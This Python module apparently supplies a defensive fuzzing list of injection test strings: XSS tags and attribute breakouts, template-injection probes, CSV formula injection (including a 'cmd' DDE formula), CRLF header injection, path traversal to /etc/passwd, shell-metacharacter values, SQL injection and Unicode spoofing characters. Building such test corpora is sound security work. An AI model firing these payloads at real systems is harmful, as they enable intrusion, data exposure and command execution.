"""Texts that become something else where somebody has forgotten that they are texts.

In a browser they would call ``t()``, ask the host ``x.invalid``, or work out
1234 × 4321; in a spreadsheet they would be formulas.
"""

from itertools import product, zip_longest

HOST = "x.invalid"
WORKED_OUT = "5332114"

_TAGS = (
    *("<svg onload=t()>", "<img src=x onerror=t()>", "<script>t()</script>", "<body onload=t()>"),
    *("<input autofocus onfocus=t()>", "<details open ontoggle=t()>"),
    *("<video src=x onerror=t()>",),
    *("<style onload=t()></style>", "<svg><script>t()", "<iframe srcdoc=<script>t()>"),
    "<a href=javascript:t()>x",
    *("<iframe src=javascript:t()>", "<object data=//x.invalid>", "<embed src=//x.invalid>"),
    *("<base href=//x.invalid>", "<link rel=stylesheet href=//x.invalid>"),
    *("<img src=//x.invalid>",),
    *("<meta http-equiv=refresh content=0;//x.invalid>", "<form action=//x.invalid><button>"),
    *("<marquee onstart=t()>", "<audio src=//x.invalid autoplay>"),
    *("<svg><image href=//x.invalid>",),
    *("<math><mi xlink:href=javascript:t()>", "<svg><use href=//x.invalid#x>"),
    "<select autofocus onfocus=t()>",
    *("<textarea autofocus onfocus=t()>", "<b style=background:url(//x.invalid)>"),
    "<button popover onclick=t()>",
)
_BEFORE = (
    *('"', "'", '">', "'>", "-->", "]]>", "</p>"),
    *(f"</{name}>" for name in ("title", "script", "style", "svg", "textarea")),
)
_BREAKING = ("<svg onload=t()>", "<img src=x onerror=t()>")
_IN_TAGS = (
    *('" autofocus onfocus=t() x="', "' autofocus onfocus=t() x='", "x onload=t() y"),
    "` onload=t() `",
    *('" onmouseover="t()', "' onclick='t()", '" style="background:url(//x.invalid)'),
    '"onload=t() "',
    *('" hx-get="//x.invalid" hx-trigger="load', "\" hx-on:load='t()'", '" data-hx-on="t()'),
    '"/onload=t()/"',
    *('" formaction="javascript:t()', '" srcdoc="<script>t()', '"\tonfocus=t()\tautofocus "'),
    "=\"' onload=t() ",
)
_SCRIPTS = (
    *("';t();'", '";t();"', "\\';t();//", '\\";t();//', "`+t()+`", "${t()}", "'-t()-'"),
    *('"-t()-"', ")};t();//"),
    *("</script><script>t()//", "<!--<script>t()", "\\u003cscript>t()"),
    "\\x3cimg src=x onerror=t()>",
    *("\u2028t()//", "\u2029t()//", "//\nt()", "/*", "*/t()/*", "];t();[", "}t(){", "__proto__"),
    "constructor",
    *("toString", "hasOwnProperty", "</ScRiPt ><sCrIpT>t()", "<script/x>t()</script>"),
    "<\x00script>t()</script>",
)
_TEMPLATES = (
    *("{{1234*4321}}", "${1234*4321}", "#{1234*4321}", "<%= 1234*4321 %>"),
    *("{%print(1234*4321)%}", "@(1234*4321)"),
    *("{{config}}", "{{''.__class__.__mro__}}", "{{t()}}", "[[${1234*4321}]]", "*{1234*4321}"),
    "~{1234*4321}",
    *("{{constructor.constructor('t()')()}}", "{#", "{{'%s'%1}}", "{{self}}"),
    *("{{request.environ}}", "%{1234*4321}"),
)
_STYLES = (
    *("}*{background:url(//x.invalid)}", "</style><svg onload=t()>", "@import '//x.invalid';"),
    "expression(t())",
    *("url(//x.invalid)", "url('javascript:t()')", "\\3c svg onload=t()>"),
    "*/}body{x:url(//x.invalid)}/*",
    *("content:url(//x.invalid)", "attr(x)", "-moz-binding:url(//x.invalid)"),
    "@font-face{src:url(//x.invalid)}",
)
_ADDRESSES = (
    *("javascript:t()", "JaVaScRiPt:t()", "java\tscript:t()", "java\nscript:t()"),
    *("\x01javascript:t()", "javascript&colon;t()"),
    *("data:text/html,<script>t()</script>", "vbscript:t()", "//x.invalid", "///x.invalid"),
    "\\\\x.invalid",
    *("/\\x.invalid", "https:x.invalid", "http://x.invalid/#", "//x.invalid%2f.."),
    *("file:///etc/passwd", "ftp://x.invalid"),
    *("view-source:x", "javascript://x.invalid/%0at()", "blob:x", "http://x.invalid@127.0.0.1"),
    "?next=//x.invalid",
)
_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    '"=',
    "' =",
    ";=",
    ",=",
    "|=",
)
_FORMULAS = (
    "1234*4321",
    'HYPERLINK("//x.invalid")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("//x.invalid")',
)
_HEADERS = (
    *("a\r\nSet-Cookie: t=1", "a\nLocation: //x.invalid", "%0d%0aX-T: 1", "a\rX-T: 1"),
    "\u560a\u560dX-T: 1",
    *("a\r\n\r\n<script>t()</script>", '"; filename="x.html', "a;b=c"),
    *("=?utf-8?q?=3Cscript=3E?=",),
)
_PATHS = (
    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//", "..\\..\\x", "C:\\x", "NUL"),
    *(".", "..", "/", "~"),
    *("%2e%2e/", "\x00.png", "a/b", ".htaccess", "-rf", "--help", "$(t)", "`t`", "| t", "&& t"),
    *(";t", "*"),
)
_FORMATS = (
    *("%s%s%s%n", "%(name)s", "%d", "%", "%%", "{0}", "{name}", "{0.__class__}", "{}", "{{}}"),
    *("%1$s", "%x" * 9),
    *("$1", "$&", "\\1", "\\g<0>", "$name", "&lt;b&gt;", "&amp;", "&#x3c;script&#x3e;", "&quot;"),
    "&NewLine;t",
)
_QUERIES = (
    *("' OR 1=1--", '" OR ""="', "'; DROP TABLE game;--", "1;--", "\\'", "' UNION SELECT 1--"),
    *("%%%", "_", "\\%"),
    *("[a-z]*", "GLOB *", "0x27", "';ATTACH 'x'--", "1) OR (1=1", "$$;SELECT 1;$$", "null"),
    *("NULL", "true", "NaN"),
)
_JSON = (
    *('"}]', "\\", '\\"', '{"a":1}', '"],"x":["', "\\u0022", "[]", "{}", "\\ud800", "</script>"),
    *("<!--", "null\x00"),
    *('","name":"x', "'", "&quot;", "0", "-1", "1e999", "undefined", "Infinity", "//", "/**/"),
    "\\u2028",
)
_SIGNS_OF_SCRIPTS = (
    *(
        f"A{sign}B"
        for sign in "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067"
    ),
    *(
        f"A{sign}B"
        for sign in "\u2068\u2069\u00ad\u061c\u180e\ufeff\ufe0f\u034f\u115f\u3164\u2800\u00a0\u3000"
    ),
    *(
        f"A{sign}B"
        for sign in "\x00\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x85\u2028\u2029\ufffe\uffff\ue000\ufff9"
    ),
    *("\x1b[31mred", "\x1b]0;title\x07", "\u202egnp.exe", "\u202e<svg onload=t()>"),
    "e" + "\u0301" * 20,
    *("Z\u0335\u0321\u0322a\u0336\u0327l\u0337\u0328g\u0338o", "\u0e01\u0e47\u0e47\u0e47\u0e47"),
    "\u0627\u0644\u0639\u0631\u0628",
    *("\u05d0\u05d1\u05d2", "👨‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "🇫🇷", "1️⃣", "👋🏿", "🂡"),
    *("𝔄𝔫𝔫𝔞", "＜script＞t()＜/script＞"),
    *("‹svg onload=t()›", "ʺ onload=t()", "ﬀ", "ß", "İ", "ı", "ΑΝΝΑ", "Аnna", "\U000e0001"),
    *("﷽" * 3, "👁️‍🗨️"),
)

KINDS: dict[str, tuple[str, ...]] = {
    "tags": _TAGS,
    "tags after an end": tuple(map("".join, product(_BEFORE, _BREAKING))),
    "inside of tags": _IN_TAGS,
    "scripts": _SCRIPTS,
    "templates": _TEMPLATES,
    "styles": _STYLES,
    "addresses": _ADDRESSES,
    "formulas": tuple(map("".join, product(_SIGNS, _FORMULAS))),
    "headers": _HEADERS,
    "paths": _PATHS,
    "formats": _FORMATS,
    "queries": _QUERIES,
    "JSON": _JSON,
    "signs and scripts": _SIGNS_OF_SCRIPTS,
}

PAYLOADS = tuple(
    dict.fromkeys(
        each for one_of_each in zip_longest(*KINDS.values()) for each in one_of_each if each
    )
)
"""All of them, in such an order that neighbours are of different kinds."""
